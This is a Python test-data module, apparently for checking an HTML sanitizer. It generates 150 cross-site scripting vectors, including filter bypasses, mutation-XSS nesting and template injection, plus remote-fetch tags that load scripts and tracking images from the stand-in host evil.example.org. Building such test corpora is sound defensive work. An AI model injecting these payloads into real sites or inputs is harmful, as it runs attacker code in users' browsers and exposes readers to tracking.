"""Texts that a browser would take for a program, or for a picture from elsewhere.

``{hit}`` stands for what is called when one of them runs, ``{far}`` for an address of
somebody else.
"""

from itertools import product

HOST = "evil.example.org"
FAR = f"http://{HOST}/x.png"

# What runs by itself, or when somebody clicks on it.
ELEMENTS = (
    "<script>{hit}</script>",
    "<ScRiPt/x>{hit}</sCrIpT >",
    "<script src=//evil.example.org/x.js></script>",
    "<img src=x onerror={hit}>",
    "<img/src=`x`/onerror={hit}//",
    "<svg onload={hit}>",
    "<svg><script>{hit}</script></svg>",
    "<svg><animate onbegin={hit} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{hit}><text y=20>x</text></a></svg>",
    "<body onload={hit}>",
    "<iframe src=javascript:{hit}></iframe>",
    "<iframe srcdoc='<script>parent.{hit}</script>'></iframe>",
    "<object data=javascript:{hit}></object>",
    "<embed src=javascript:{hit}>",
    "<video><source onerror={hit}></video>",
    "<audio src=x onerror={hit}></audio>",
    "<details open ontoggle={hit}>x</details>",
    "<input autofocus onfocus={hit}>",
    "<textarea autofocus onfocus={hit}></textarea>",
    "<select autofocus onfocus={hit}></select>",
    "<a tabindex=0 autofocus onfocus={hit}>x</a>",
    "<p onmouseover={hit}>x</p>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={hit}>",
    "<marquee onstart={hit}>x</marquee>",
    "<a href=javascript:{hit}>x</a>",
    "<a href='&#106;avascript:{hit}'>x</a>",
    "<a href='java\tscript:{hit}'>x</a>",
    "<a href='\x01javascript:{hit}'>x</a>",
    "<a href='data:text/html,<script>{hit}</script>'>x</a>",
    "<form action=javascript:{hit}><input type=submit></form>",
    "<button formaction=javascript:{hit}>x</button>",
    "<math href=javascript:{hit}>x</math>",
    "<meta http-equiv=refresh content='0;url=javascript:{hit}'>",
    "<base href=javascript:{hit}//>",
    "<dialog open oncancel={hit}><button autofocus onclick={hit}>x</button></dialog>",
)
# Where they are put: as they are, out of an attribute, out of a text.
PLACES = ("{}", "\"'>{}", "</textarea></title></style></noscript></script>{}")

# What is fetched from elsewhere by itself, so that the sender knows who reads.
FETCHED = (
    "<img src={far}>",
    "<img src=//evil.example.org/x.png>",
    "<img srcset='{far} 2x' src=data:,>",
    "<picture><source srcset={far}><img></picture>",
    "<video poster={far}></video>",
    "<audio autoplay src={far}></audio>",
    "<table background={far}><tr><td background={far}>x</td></tr></table>",
    "<p style='background-image:url({far})'>x</p>",
    "<p style='background:url({far})'>x</p>",
    "<p style='background-image:\\75rl({far})'>x</p>",
    "<p style='background-image:image-set(\"{far}\" 1x)'>x</p>",
    "<ul style='list-style-image:url({far})'><li>x</li></ul>",
    "<link rel=stylesheet href={far}>",
    "<style>@import '{far}';</style>",
    "<input type=image src={far}>",
    "<svg><image href={far} /></svg>",
    "<iframe src={far}></iframe>",
    "<object data={far}></object>",
)
# What is made into a program only by who reads or writes it once more.
MUTATED = (
    "<scr<script>ipt>{hit}</scr</script>ipt>",
    "<!--><img src=x onerror={hit}>-->",
    "<!--[if gte IE 4]><script>{hit}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={hit}>]]>",
    "<noscript><p title='</noscript><img src=x onerror={hit}>'></noscript>",
    "<svg></p><style><a id='</style><img src=x onerror={hit}>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror={hit}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={hit}>",
    "<p style='x:expression({hit})'>x</p>",
    "&lt;img src=x onerror={hit}&gt;",
    "&amp;lt;script&amp;gt;{hit}&amp;lt;/script&amp;gt;",
    "\\u003cimg src=x onerror={hit}\\u003e",
    "\uff1cscript\uff1e{hit}\uff1c/script\uff1e",
    "<x t-out='{hit}' t-on-click='{hit}'><t t-esc='{hit}'/></x>",
    "{{{{constructor.constructor('{hit}')()}}}}",
    "${{{hit}}} #{{{hit}}}",
    "javascript:{hit}",
    'http://example.org/"onmouseover="{hit}',
    "http://example.org/'><img src=x onerror={hit}>",
    'x@example.org"onclick="{hit}',
    '" autofocus onfocus={hit} x="',
    "' autofocus onfocus={hit} x='",
    "';{hit};//",
    '";{hit};//',
    "</script><script>{hit}</script>",
    "<div data-oe-expression='{hit}' data-embedded='file' data-embedded-props='{{}}'>",
    "<a class='o_mail_redirect' data-oe-model=x data-oe-id=1 href=javascript:{hit}>x",
)


def get_vectors():
    """All of them, 150."""
    elements = (p.replace("{}", e) for e, p in product(ELEMENTS, PLACES))
    return [*elements, *FETCHED, *MUTATED]


def write(vector, place):
    """A vector that says, when it runs, which and where it is."""
    return vector.format(hit=f"alert(`{place}`)", far=f"{FAR}?{place}")
